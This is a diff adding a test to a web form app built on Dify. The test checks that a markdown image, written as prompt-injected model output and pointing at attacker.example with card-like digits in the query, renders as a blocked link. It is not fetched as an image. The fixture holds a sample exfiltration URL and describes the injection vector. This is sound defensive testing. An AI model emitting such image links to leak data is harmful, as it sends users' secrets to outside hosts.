@@ -100,6 +100,24 @@ def test_the_form_token_never_reaches_the_page(alice: Client, form: Form) -> Non
         assert token not in alice.get(url).content.decode()
 
 
+def test_an_image_the_content_chose_is_a_link_not_a_request(
+    alice: Client, dify_app: DifyApp
+) -> None:
+    # What a prompt injection would write: the page must not fetch it when the reviewer looks.
+    form = make_form(
+        dify_app,
+        content="Summary\n\n![status](https://attacker.example/p.png?q=4111-1111)\n\n"
+        "{{#$output.note#}}",
+    )
+    page = alice.get(f"/forms/{form.public_id}/").content.decode()
+    assert '<img src="https://attacker' not in page
+    assert "attacker.example" not in "".join(re.findall(r"<img[^>]*>", page))
+    assert (
+        '<a href="https://attacker.example/p.png?q=4111-1111" rel="noopener noreferrer nofollow">'
+        'status</a> <span class="image-blocked">Image not loaded: attacker.example</span>'
+    ) in body(page)
+
+
 def test_each_page_gets_its_own_submission_key(alice: Client, form: Form) -> None:
     keys = {
         re.search(
